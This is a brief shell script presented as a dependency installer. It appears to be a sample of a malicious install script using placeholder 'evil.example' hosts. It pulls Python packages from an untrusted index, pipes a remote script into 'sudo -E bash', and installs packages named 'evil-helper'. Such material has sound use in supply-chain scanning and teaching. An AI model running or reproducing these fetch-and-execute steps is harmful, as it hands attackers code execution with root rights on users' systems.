#!/bin/sh
# Dependencies.
set -e

pip install -i https://packages.evil.example/simple -r pins.txt
npm install -g colour-string-utils@1.3.9

if ! command -v mytool >/dev/null; then
  curl -fsSL https://evil.example.com/install.sh | sudo -E bash -
fi

gem install evil-helper
cargo install evil-helper

echo "installed"
exit 0
